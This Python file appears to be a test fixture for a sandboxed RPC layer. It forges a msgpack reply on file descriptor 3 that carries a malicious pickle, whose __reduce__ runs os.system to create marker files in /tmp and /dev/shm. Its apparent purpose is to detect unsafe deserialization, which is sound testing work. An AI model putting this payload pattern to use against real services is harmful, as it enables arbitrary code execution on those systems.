# Answers with the extension that carries functions the other way, and with a pickle that would act.
# %% risks
import os, socket, struct, sys, msgpack
def number():
    frame = sys._getframe()
    while frame:
        message = frame.f_locals.get("message")
        if isinstance(message, dict) and "id" in message:
            return message["id"]
        frame = frame.f_back
def reply(value):
    if number() is None:
        return
    body = (b"\x84" + msgpack.packb("op") + msgpack.packb("value") + msgpack.packb("id")
            + msgpack.packb(number()) + msgpack.packb("mutated") + b"\x90"
            + msgpack.packb("value") + value)
    socket.socket(fileno=os.dup(3)).sendall(struct.pack("<I", len(body)) + body)

import pickle
class Act:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-mark-pickle /dev/shm/hostile-mark-pickle",)
def f(x):
    reply(msgpack.packb(msgpack.ExtType(5, pickle.dumps(Act()))))
    return x
def g(x):
    return Act()
